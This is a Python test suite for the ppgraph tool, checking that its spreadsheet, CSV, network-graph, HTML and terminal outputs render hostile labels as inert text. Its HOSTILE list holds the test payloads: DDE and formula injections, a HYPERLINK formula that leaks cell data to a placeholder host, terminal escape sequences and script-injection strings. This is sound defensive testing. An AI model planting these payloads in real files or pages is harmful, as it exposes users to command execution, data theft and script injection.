"""What ppgraph writes is safe by construction (issue 10): spreadsheet and CSV cells never run
as formulas, GraphML/GEXF/JSON stay well-formed, the terminal never receives a control
sequence from the data — for hostile labels chosen by hand and for any label (hypothesis).
The store side (crashes, concurrency, restore, the network) is in ``test_store_safety.py``.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import networkx as nx
import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rdflib import RDFS, Literal, URIRef
from rdflib.compare import isomorphic

import cli
from ppgraph.demo import generate_network
from ppgraph.namespaces import PP, submission_graph
from ppgraph.network import example_network
from ppgraph.network.export import cytoscape_json, write_network
from ppgraph.questions.formats import Answer, format_csv, format_json, format_table, \
    format_turtle
from ppgraph.spreadsheet import export_graph, read_spreadsheet
from ppgraph.spreadsheet.cells import scrub
from ppgraph.spreadsheet.template import _put, save_workbook
from ppgraph.store import Store
from ppgraph.text import (TerminalStream, formula_like, inert_cell, revived_cell,
                          terminal_text, text_table, xml_text)
from ppgraph.viz import render_view

# Labels a hostile or careless workbook can carry: formulas of every trigger (OWASP's list,
# DDE included), control characters (NUL, BEL, ESC sequences, C1 CSI), bidirectional
# overrides, markup, a phone number in international form.
HOSTILE = [
    '=HYPERLINK("https://exemple.test/?d="&A1;"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+33 5 55 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "Office\x00 de\x07 tourisme\x1b[31m rouge\x1b[0m",
    "Nom\x1b]8;;https://exemple.test\x07lien\x1b]8;;\x07",
    "CSI\x9b2J efface",
    "Guéret\u202e evil",
    "</script><script>alert(1)</script>",
    "<b onmouseover=alert(1)>gras</b> & « guillemets »",
]

CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def in_cell(label: str) -> str:
    """What a workbook cell holds of ``label``: what XML allows, line breaks as line feeds."""
    return xml_text(label)


def no_controls(text: str) -> bool:
    """Only tab, line feed and a carriage return before a line feed are left."""
    return not CONTROL.search(text) and not re.search("\r(?!\n)", text)


# -- the rules themselves -------------------------------------------------------------------------

def test_a_cell_a_spreadsheet_would_run_is_neutralised_and_revived_as_it_was():
    for text in HOSTILE[:8]:
        safe = inert_cell(text)
        assert safe.startswith("'") and revived_cell(safe) == text, text
    assert inert_cell("-12,5") == "-12,5" and inert_cell("Office de tourisme") == "Office de tourisme"
    assert revived_cell("'aujourd'hui") == "'aujourd'hui"  # an apostrophe of the data stays


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n\x00a1,. ")) | st.text())
def test_any_text_is_inert_once_neutralised_and_comes_back_unchanged(text):
    safe = inert_cell(text)
    assert not formula_like(safe)
    assert revived_cell(safe) == text


# -- spreadsheets: the workbook and the CSV files that export writes --------------------------------

@pytest.fixture(scope="module")
def hostile_submission():
    """A small real submission (Creuse, from the demo's generator) whose structures are
    named with the hostile labels."""
    graph = generate_network(scale=0.2, departements=["23"]).submissions["23"]
    structures = sorted(graph.subjects(URIRef("http://www.w3.org/1999/02/22-rdf-syntax-ns#type"),
                                       PP.Structure))
    names = {}
    for node, label in zip(structures, HOSTILE):
        graph.remove((node, RDFS.label, None))
        graph.add((node, RDFS.label, Literal(label, lang="fr")))
        names[node] = label
    return graph, names


def test_export_writes_formula_like_labels_as_text_never_as_formulas(hostile_submission, tmp_path):
    graph, names = hostile_submission
    path, _ = export_graph(graph, tmp_path / "export.xlsx", include_personal=True)
    wb = openpyxl.load_workbook(path)
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas == []
    cells = {c.value: c for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}
    for label in names.values():
        written = in_cell(label)
        assert written in cells, label
        cell = cells[written]
        assert cell.data_type == "s"
        if formula_like(written):
            assert cell.quotePrefix, label  # stays text when a person edits the cell
    # The file is what ppgraph reads back: the same labels, nothing run; control and
    # invisible characters that XML lets through (C1 CSI, a direction override) are removed on
    # reading, with a warning (issue 10).
    result = read_spreadsheet(path)
    back = result.graph
    for node, label in names.items():
        assert {str(o) for o in back.objects(node, RDFS.label)} == \
            {scrub(in_cell(label))[0].strip()}, label
    removed = [i for i in result.issues if "U+009B" in i.detail.render("fr")]
    assert removed, "no warning for the C1 control character removed on reading"


def test_csv_export_neutralises_formulas_and_reads_back_the_same_graph(hostile_submission, tmp_path):
    graph, names = hostile_submission
    clean = [n for n, label in names.items() if xml_text(label) == label and label.strip() == label
             and "\r" not in label and scrub(label)[0] == label]
    folder, _ = export_graph(graph, tmp_path / "csv", format="csv", include_personal=True)
    rows = list(csv.reader(io.StringIO((folder / "Structures.csv").read_text("utf-8-sig")),
                           delimiter=";"))
    for row in rows:
        for cell in row:
            assert not formula_like(cell), cell  # a leading apostrophe: shown as text
    assert any(cell.startswith("'=HYPERLINK(") for row in rows for cell in row)
    back = read_spreadsheet(folder).graph
    for node in clean:
        assert str(back.value(node, RDFS.label)) == scrub(names[node])[0], names[node]


def test_query_csv_neutralises_formulas():
    answer = Answer("select", ["nom", "n"], [{"nom": Literal(label), "n": Literal(-3)}
                                             for label in HOSTILE], lang="fr")
    rows = list(csv.reader(io.StringIO(format_csv(answer, bom=False)), delimiter=";"))
    assert rows[0] == ["nom", "n"]
    for row in rows[1:]:
        assert not formula_like(row[0]) and row[1] == "-3", row  # a number stays a number
        assert "\x00" not in row[0] and "\x07" not in row[0]


# -- network exports ------------------------------------------------------------------------------

def hostile_network(label: str) -> nx.MultiDiGraph:
    G = example_network()
    G.nodes["ot-gueret"]["label"] = label
    G.nodes["adt-19"]["commune_label"] = label
    G.graph["departements"] = {"19": label, "23": "Creuse"}
    return G


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "json"])
def test_network_exports_stay_well_formed_whatever_the_labels(tmp_path, fmt):
    for i, label in enumerate(HOSTILE):
        path = write_network(hostile_network(label), tmp_path / f"r{i}.{fmt}")
        data = path.read_bytes()
        if fmt == "json":
            doc = json.loads(data)
            names = {n["data"]["id"]: n["data"]["label"] for n in doc["elements"]["nodes"]}
        else:
            ET.fromstring(data)  # a real XML parser (expat) accepts the file
            G = nx.read_graphml(path) if fmt == "graphml" else nx.read_gexf(path)
            names = {n: d.get("label") for n, d in G.nodes(data=True)}
        assert names["ot-gueret"] == xml_text(label), (fmt, label)


# -- the terminal ----------------------------------------------------------------------------------

def test_every_text_format_of_an_answer_is_safe_to_print():
    rows = [{"nom": Literal(label)} for label in HOSTILE]
    answer = Answer("select", ["nom"], rows, lang="fr")
    for text in (format_table(answer), format_json(answer)):
        assert no_controls(text)
    out = io.StringIO()
    TerminalStream(out).write(format_csv(answer))
    assert no_controls(out.getvalue()) and out.getvalue().startswith("\ufeff")
    assert json.loads(format_json(answer))["results"]["bindings"][8]["nom"]["value"] == HOSTILE[8]
    from rdflib import Graph
    g = Graph()
    for i, label in enumerate(HOSTILE):
        g.add((URIRef(f"urn:x:{i}"), RDFS.label, Literal(label)))
    turtle = format_turtle(Answer("construct", [], [], graph=g, lang="fr"))
    assert no_controls(turtle)
    assert isomorphic(Graph().parse(data=turtle, format="turtle"), g)  # the same data


@pytest.fixture(scope="module")
def hostile_store(built_demo, tmp_path_factory):
    """The demo's store, with one structure of the Creuse named with every hostile label."""
    path = tmp_path_factory.mktemp("hostile") / "magasin"
    shutil.copytree(built_demo.store_path, path)
    with Store(path) as store:
        node = next(r["s"] for r in store.select(
            "SELECT ?s WHERE { GRAPH ?g { ?s a pp:Structure } } LIMIT 1",
            {"g": submission_graph("23")}))
        for label in HOSTILE:
            lit = re.sub("[\x00-\x1f\x7f-\x9f\u202a-\u202e]",
                         lambda m: f"\\u{ord(m.group(0)):04x}", Literal(label, lang="fr").n3())
            store.update(f"INSERT DATA {{ GRAPH <{submission_graph('23')}> {{ <{node}> "
                         f"rdfs:label {lit} }} }}")
    return path


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_the_command_line_never_prints_a_control_character_from_the_data(hostile_store, fmt):
    r = CliRunner().invoke(cli.main, ["--store", str(hostile_store), "query", "--format", fmt, "-q",
                                      "SELECT ?nom WHERE { ?s rdfs:label ?nom } ORDER BY ?nom"])
    assert r.exit_code == 0, r.output
    assert "HYPERLINK" in r.output and "Guéret" in r.output
    assert no_controls(r.output.lstrip("\ufeff")), repr([m for m in CONTROL.findall(r.output)])


def test_turtle_answers_on_the_command_line_are_escaped_not_stripped(hostile_store):
    r = CliRunner().invoke(cli.main, ["--store", str(hostile_store), "query", "-q",
                                      "CONSTRUCT { ?s rdfs:label ?nom } WHERE { ?s rdfs:label ?nom "
                                      "FILTER(CONTAINS(?nom, 'tourisme')) }"])
    assert r.exit_code == 0, r.output
    assert no_controls(r.output) and "\\u0007" in r.output


def test_network_export_of_a_store_with_hostile_names_is_well_formed(hostile_store, tmp_path):
    for fmt in ("graphml", "gexf"):
        out = tmp_path / f"reseau.{fmt}"
        r = CliRunner().invoke(cli.main, ["--store", str(hostile_store), "network", "export",
                                          "-o", str(out), "--departement", "23"])
        assert r.exit_code == 0, r.output
        ET.parse(out)


# -- any label, through every output (hypothesis) -------------------------------------------------

class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def _tags(html: str) -> list[str]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


_BENIGN_TAGS = None


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(label=st.text(min_size=1, max_size=40))
def test_any_label_goes_through_every_output_as_inert_text(label, tmp_path):
    global _BENIGN_TAGS
    # Terminal: an aligned table of it never carries a control character.
    assert no_controls(text_table(["Nom"], [[label]]))
    assert no_controls(terminal_text(label))
    # XLSX: one cell written as ppgraph writes them, read back by openpyxl.
    wb = openpyxl.Workbook()
    cell = _put(wb.active, 1, 1, label)
    target = tmp_path / "c.xlsx"
    save_workbook(wb, target)
    back = openpyxl.load_workbook(target).active["A1"]
    assert back.data_type != "f"
    assert (back.value or "") == in_cell(label)
    assert cell.data_type == "s"
    # CSV: the query's CSV, parsed back.
    answer = Answer("select", ["nom"], [{"nom": Literal(label)}], lang="fr")
    rows = list(csv.reader(io.StringIO(format_csv(answer, bom=False), newline=""), delimiter=";"))
    assert not formula_like(rows[1][0]) and revived_cell(rows[1][0]) == xml_text(label)
    # GraphML, GEXF, Cytoscape JSON: parsed back by a real XML or JSON parser.
    G = hostile_network(label)
    for fmt in ("graphml", "gexf"):
        path = write_network(G, tmp_path / f"r.{fmt}")
        ET.parse(path)
    doc = json.loads(json.dumps(cytoscape_json(G)))
    assert any(n["data"]["label"] == xml_text(label) for n in doc["elements"]["nodes"])
    # HTML: a network view holds it as text; the page has the same elements as with a
    # plain label.
    html = render_view(G, title=label)
    if _BENIGN_TAGS is None:
        _BENIGN_TAGS = _tags(render_view(G, title="Titre"))
    assert _tags(html) == _BENIGN_TAGS
